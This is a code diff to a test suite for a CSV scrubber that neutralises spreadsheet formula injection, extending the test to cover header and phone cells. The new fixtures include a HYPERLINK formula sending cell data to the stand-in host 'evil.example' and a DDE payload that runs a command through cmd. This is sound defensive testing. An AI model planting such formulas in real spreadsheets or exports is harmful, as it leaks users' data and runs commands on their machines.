@@ -434,7 +434,7 @@ describe('scrubCsv', () => {
   });
 
   describe('formulas', () => {
-    it('neutralises every cell a spreadsheet would run, header cells included, and leaves numbers and the phone column alone', async () => {
+    it('neutralises every cell a spreadsheet would run, header and phone cells included, and leaves numbers and phone spellings alone', async () => {
       const input = [
         '=Name,Phone,Note',
         '=HYPERLINK("http://x"),2012345678,@SUM(A1)',
@@ -448,6 +448,10 @@ describe('scrubCsv', () => {
         'Ext,+1 201 234 5678 ext. 12,+1 201 234 5678 x12',
         'Sum,-2+A1,"-1 x"',
         'Eq,=2012345678,=2012345678',
+        `Link,"=HYPERLINK(""http://evil.example/?""&A2,""click"")",x`,
+        "Calc,=cmd|' /C calc'!A0,x",
+        'At,"@SUM(1,2)",x',
+        'Dash,-201-234-5678,x',
         '',
       ].join('\n');
       const { text, result } = await scrub(input);
@@ -457,21 +461,25 @@ describe('scrubCsv', () => {
           `'=HYPERLINK("http://x"),2012345678,'@SUM(A1),mobile,0`,
           `"'=1+2",+1 201 234 5678,-,mobile,0`,
           `Ann,-,"'+cmd",invalid,`,
-          'Tab,2012345678,\tx,mobile,0',
+          "Tab,2012345678,'\tx,mobile,0",
           "TabEq,2012345678,'\t=1+2,mobile,0",
-          'CR,2012345678,\rx,mobile,0',
+          `CR,2012345678,"'\rx",mobile,0`,
           'Safe,2012345678,a=b,mobile,0',
           'Amount,"+1 (201) 234-5678",-42.50,mobile,0',
           'Ext,+1 201 234 5678 ext. 12,+1 201 234 5678 x12,mobile,0',
-          `Sum,-2+A1,"'-1 x",invalid,`,
-          "Eq,=2012345678,'=2012345678,invalid,",
+          `Sum,'-2+A1,"'-1 x",invalid,`,
+          "Eq,'=2012345678,'=2012345678,invalid,",
+          `Link,"'=HYPERLINK(""http://evil.example/?""&A2,""click"")",x,invalid,`,
+          "Calc,'=cmd|' /C calc'!A0,x,invalid,",
+          `At,"'@SUM(1,2)",x,invalid,`,
+          'Dash,-201-234-5678,x,mobile,0',
           '',
         ].join('\n'),
       );
-      expect(result.rows).toBe(11);
-      // Every cell but the phone column's (which comes back as sent) is safe to open.
+      expect(result.rows).toBe(15);
+      // Every cell, the phone column's included, is safe to open.
       for (const row of parse(text, { relax_column_count: true, relax_quotes: true }) as string[][]) {
-        for (const [k, cell] of row.entries()) if (k !== 1) expect(isFormulaCell(cell), cell).toBe(false);
+        for (const cell of row) expect(isFormulaCell(cell), cell).toBe(false);
       }
     });
   });
